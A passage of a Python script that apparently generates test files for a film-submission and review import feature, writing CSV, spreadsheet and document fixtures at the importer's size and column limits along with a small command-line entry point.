                         "Language", "Duration", "Synopsis", *(f"Column {i}" for i in range(41))]
    return [
        # 24 MB: synopses of some 950 characters
        Case("limit_text_24mb.csv", SUBMISSIONS, "imported", added=rows, write=_at_limit(
            rows, lambda n: [str(n), f"Film {n}", "Ana Kovač", "A B", "Slovenia", "1:20:00",
                             " ".join(rng.choice(words) for _ in range(137))], FF_HEADERS[:2] + [
                "Directors", "Key Cast", "Country of Origin", "Duration", "Synopsis"])),
        # 199,920 people and countries: 4 directors, 3 of the cast and a country a row
        Case("limit_names.csv", SUBMISSIONS, "imported", added=rows, write=_at_limit(
            rows, lambda n: [str(n), f"Film {n}", ", ".join(f"P{n}-{i}" for i in range(4)),
                             ", ".join(f"C{n}-{i}" for i in range(3)), "Slovenia", "1:20:00", "x"], names_header)),
        # 1,249,500 cells: 50 columns
        Case("limit_cells.csv", SUBMISSIONS, "imported", added=rows, write=_at_limit(
            rows, lambda n: [str(n), f"Film {n}", *(f"v{i}{n % 7}" for i in range(48))],
            ["Submission ID", "Project Title", *(f"Column {i}" for i in range(48))])),
        # every limit at once: 50 columns, 8 names, countries and languages a row, 24 MB
        Case("limit_everything.csv", SUBMISSIONS, "imported", added=rows, write=_at_limit(
            rows, lambda n: [str(n), f"Film {n}", f"D{n}-0, D{n}-1", f"W{n}-0", f"C{n}-0, C{n}-1, C{n}-2",
                             "Slovenia", "Slovenian", "1:20:00", " ".join(rng.choice(words) for _ in range(100)),
                             *(f"v{i}{n % 7}" for i in range(41))], everything_header)),
        # 399,840 cells of a workbook: 16 columns
        Case("limit_cells.xlsx", SUBMISSIONS, "imported", added=rows, write=_write_bytes(lambda: _wide_sheet(
            rows, ["Submission ID", "Project Title", "Directors", "Country of Origin", "Duration", "Synopsis",
                   *(f"Column {i}" for i in range(10))],
            lambda n: [str(n), f"Film {n}", "Ana Kovač", "Slovenia", "1:20:00", "A film about a river.",
                       *(f"v{i}{n % 7}" for i in range(10))]))),
        Case("limit_review_paragraphs.txt", REVIEW, "imported", "Many Paragraphs",
             write=_review_at_limit("text", "Many Paragraphs", "Siim Lepik", 2001)),
        Case("limit_review_page.html", REVIEW, "imported", "Harbour Ledger",
             write=_review_at_limit("html", "Harbour Ledger", "Helen Rebane", 2002)),
        Case("limit_review_marks.md", REVIEW, "imported", "Ledger of Gulls",
             write=_review_at_limit("markdown", "Ledger of Gulls", "Kaido Viik", 2003)),
        Case("limit_review_word.docx", REVIEW, "imported", "Winter Paper",
             write=_review_at_limit("word", "Winter Paper", "Maris Kull", 1999)),
    ]


def write_corpus(folder: Path, *, limits: bool = False) -> list[tuple[Case, Path]]:
    """Write every case's file into `folder` (kept when already there), with `limits` the files
    at the import's limits too; returns (case, path)."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for case in cases() + (limit_cases() if limits else []):
        path = folder / case.name
        if not path.exists():
            partial = path.with_name(path.name + ".part")
            case.write(partial)
            os.replace(partial, path)
        written.append((case, path))
    return written


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("folder", type=Path)
    parser.add_argument("--limits", action="store_true", help="also the files at the import's limits")
    args = parser.parse_args(argv)
    for case, path in write_corpus(args.folder, limits=args.limits):
        print(f"{path.stat().st_size:>12,}  {case.kind:<11}  {case.outcome:<8}  {path.name}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
